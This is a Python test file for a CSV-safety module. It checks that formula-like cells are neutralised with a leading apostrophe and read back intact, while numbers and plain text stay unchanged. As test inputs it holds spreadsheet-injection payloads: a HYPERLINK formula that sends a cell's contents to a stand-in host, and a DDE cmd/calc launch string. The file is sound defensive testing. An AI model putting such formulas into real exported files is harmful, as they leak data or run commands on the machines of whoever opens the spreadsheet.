import csv
import io

import pytest

from loscat_hf.io.csvsafe import SafeDictWriter, SafeWriter, read_cell, safe_cell


@pytest.mark.parametrize("cell", ['=HYPERLINK("http://x/?"&A1)', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)",
                                  "\t=1", "\r=1", "=1", "-", "'=x.jpg", "'quoted", "'"])
def test_formula_cells_are_neutralised_and_read_back(cell):
    out = safe_cell(cell)
    assert out == "'" + cell
    assert read_cell(out) == cell


@pytest.mark.parametrize("cell", ["-1", "+2.5", "-1e-3", "0.25", "-.5", "plain", "", 3, None, -1.0])
def test_numbers_and_plain_text_are_unchanged(cell):
    assert safe_cell(cell) == cell
    if isinstance(cell, str):
        assert read_cell(cell) == cell


def test_writers_neutralise_every_cell():
    fh = io.StringIO()
    SafeWriter(fh).writerows([["a", "=1+1"], ["-3", "@x"]])
    dfh = io.StringIO()
    w = SafeDictWriter(dfh, fieldnames=["image", "p"])
    w.writeheader()
    w.writerow({"image": "=evil.jpg", "p": -0.5})
    assert list(csv.reader(io.StringIO(fh.getvalue()))) == [["a", "'=1+1"], ["-3", "'@x"]]
    assert list(csv.reader(io.StringIO(dfh.getvalue()))) == [["image", "p"], ["'=evil.jpg", "-0.5"]]
